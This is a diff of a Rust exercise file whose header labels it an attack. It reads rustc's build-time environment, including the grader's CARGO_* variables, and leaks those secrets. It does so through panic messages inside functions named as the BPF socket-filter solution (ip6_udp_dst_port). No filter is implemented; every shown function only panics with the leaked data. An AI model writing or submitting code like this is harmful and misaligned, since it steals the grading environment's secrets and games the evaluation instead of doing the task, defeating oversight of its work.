@@ -1,9 +1,6 @@
 //! Attack: read rustc's own environment at build time (the grader's CARGO_* variables) and print its secrets.
 #![allow(unused_imports, unused_variables)]
 
-use std::os::fd::{AsRawFd, BorrowedFd};
-
-use anyhow::Result;
 use workbook::bpf::sock_filter;
 
 /// rustc's environment, as the build sandbox gave it: NUL-separated NAME=VALUE.
@@ -27,11 +24,7 @@ fn leak() -> String {
 }
 
 /// Panics with the leak.
-pub fn ip6_udp_filter() -> Vec<sock_filter> {
+pub fn ip6_udp_dst_port(port: u16) -> Vec<sock_filter> {
     panic!("{}", leak())
 }
 
-/// Panics with the leak.
-pub fn attach_filter(fd: BorrowedFd<'_>, program: &[sock_filter]) -> Result<()> {
-    panic!("{}", leak())
-}
